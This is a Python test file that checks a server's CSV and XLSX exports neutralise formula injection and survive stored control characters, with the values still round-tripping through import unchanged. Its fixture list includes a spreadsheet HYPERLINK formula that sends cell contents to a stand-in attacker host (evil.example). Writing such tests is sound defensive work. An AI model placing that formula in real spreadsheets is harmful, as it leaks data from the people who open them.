"""Exports never carry a live formula (issue 15, finding 7) and never break on stored control
characters (finding 6), while export → import still changes nothing."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from server.basedata.importexport import quote_cell, unquote_cell
from server.basedata.kinds import KINDS
from server.basedata.models import Party

from .conftest import row_counts
from .test_basedata_import import upload

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
TRICKY = [HYPERLINK, "=1+2", "+86 138 0013 8000", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "'=already quoted",
          "''+twice", "'plain quote", "a=b", "普通文本", "", "=", "'"]


def test_quoting_is_lossless_and_leaves_no_formula():
    for value in TRICKY:
        quoted = quote_cell(value)
        assert not quoted[:1] in ("=", "+", "-", "@", "\t", "\r"), value
        assert unquote_cell(quoted) == value, value
    assert quote_cell(HYPERLINK) == "'" + HYPERLINK
    assert quote_cell("普通文本") == "普通文本" and quote_cell(12) == 12 and quote_cell(None) is None
    assert quote_cell("a\x00b\x1bc") == "abc"  # control characters are left out


def _values(data: bytes, fmt: str) -> list[list]:
    rows = _cells(data, fmt)
    return rows if fmt == "csv" else [[c.value for c in row] for row in rows]


def _cells(data: bytes, fmt: str) -> list[list]:
    if fmt == "csv":
        return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    wb = load_workbook(io.BytesIO(data))  # not read-only: formulas come back as formulas
    return [[c for c in row] for row in wb.worksheets[0].iter_rows()]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_formula_like_text_is_inert_in_exports_and_round_trips(client, net, app, fmt):
    h = net.headers("admin")
    r = client.post("/api/members", json={"phone": "+8613800138000", "name": HYPERLINK, "address": "@SUM(A1)",
                                          "note": "-1+1"}, headers=h)
    assert r.status_code == 201, r.json
    r = client.post("/api/parties", json={"code": "P1", "name": "=1+2", "roles": ["supplier"], "contact_name": "+x",
                                          "address": "'=already quoted", "note": "''+twice"}, headers=h)
    assert r.status_code == 201, r.json
    before = row_counts(app)
    for kind in ("members", "parties"):
        exported = client.get(f"/api/{kind}/export", query_string={"format": fmt}, headers=h)
        assert exported.status_code == 200
        rows = _cells(exported.data, fmt)
        if fmt == "csv":
            texts = [v for row in rows[1:] for v in row]
        else:
            assert all(c.data_type != "f" for row in rows for c in row), kind  # no formula cell at all
            texts = [c.value for row in rows[1:] for c in row if isinstance(c.value, str)]
        assert all(not t.startswith(("=", "+", "-", "@")) for t in texts), texts
        r = upload(client, net, kind, exported.data, name=f"{kind}.{fmt}")
        assert r.json["errors"] == [] and (r.json["created"], r.json["updated"]) == (0, 0), r.json
        again = client.get(f"/api/{kind}/export", query_string={"format": fmt}, headers=h)
        assert _values(again.data, fmt) == _values(exported.data, fmt), kind
    after = row_counts(app)
    after.pop("audit_log"), before.pop("audit_log")  # exports of personal data are audited
    assert after == before
    member = client.get("/api/members", headers=h).json["items"][0]
    assert (member["name"], member["phone"], member["address"], member["note"]) == (HYPERLINK, "+8613800138000",
                                                                                   "@SUM(A1)", "-1+1")
    party = client.get("/api/parties", headers=h).json["items"][0]
    assert (party["name"], party["contact_name"], party["address"], party["note"]) == (
        "=1+2", "+x", "'=already quoted", "''+twice")


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_every_kind_round_trips_with_formula_like_names(client, net, app, fmt):
    """The round trip of every kind (test_basedata_import) with such values in its text fields."""
    from server.basedata.demo import load_basedata_demo
    from server.commissions.demo import load_commissions_demo
    from server.db import unit_of_work

    net.add_user("sz01.engineer", "SZ01", ["engineer"])
    s = net.session()
    with unit_of_work(s):
        load_basedata_demo(s, members=5, cards=5)
        load_commissions_demo(s)  # base data kinds an area adds (commission rules) need their rows too
    s.close()
    h = net.headers("admin")
    for kind_name, kind in KINDS.items():
        # Free text only: a barcode is unique, a buyer's phone is checked as a phone.
        texts = [f.name for f in kind.fields if f.type in ("str", "text") and f.name not in ("barcode", "buyer_phone")]
        if not texts:
            continue
        first = client.get(f"/api/{kind_name}", query_string={"page_size": 1}, headers=h).json["items"][0]
        values = {name: TRICKY[i % 8][: kind.field(name).max_len].strip() or "=x" for i, name in enumerate(texts)}
        r = client.patch(f"/api/{kind_name}/{first['id']}", json=values, headers=h)
        assert r.status_code == 200, (kind_name, r.json)
    before = row_counts(app)
    for kind_name in KINDS:
        exported = client.get(f"/api/{kind_name}/export", query_string={"format": fmt}, headers=h)
        assert exported.status_code == 200, kind_name
        r = upload(client, net, kind_name, exported.data, name=f"{kind_name}.{fmt}")
        assert r.json["errors"] == [], (kind_name, r.json["errors"][:3])
        assert (r.json["created"], r.json["updated"]) == (0, 0), (kind_name, r.json)
    after = row_counts(app)
    after.pop("audit_log"), before.pop("audit_log")
    assert after == before


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_stored_control_character_does_not_break_the_export(client, net, app, fmt):
    h = net.headers("admin")
    for code, name in (("P1", "好的"), ("P2", "坏的")):
        assert client.post("/api/parties", json={"code": code, "name": name, "roles": ["supplier"]},
                           headers=h).status_code == 201
    # Stored before the edge refused it (PostgreSQL refuses NUL itself; other controls it keeps).
    db = app.extensions["aftercare.db"]
    with db.engine.begin() as conn:
        conn.execute(update(Party.__table__).where(Party.__table__.c.code == "P2").values(name="坏\x01的\x1b", note="x\x0by"))
    exported = client.get("/api/parties/export", query_string={"format": fmt}, headers=h)
    assert exported.status_code == 200
    rows = _cells(exported.data, fmt)
    names = [row[1] if fmt == "csv" else row[1].value for row in rows[1:]]
    assert names == ["好的", "坏的"]
    r = upload(client, net, "parties", exported.data, name=f"parties.{fmt}")
    assert r.json["errors"] == [] and r.json["updated"] == 1  # the control characters are gone now


def test_importing_control_characters_is_refused_per_cell(client, net, app):
    before = row_counts(app)
    data = "code,name,roles\nP1,ok,supplier\nP2,bad\x01name,supplier\n".encode()
    r = upload(client, net, "parties", data, name="parties.csv")
    assert r.json["errors"] == [{"row": 3, "column": "name", "message": "must not contain control characters"}]
    assert row_counts(app) == before
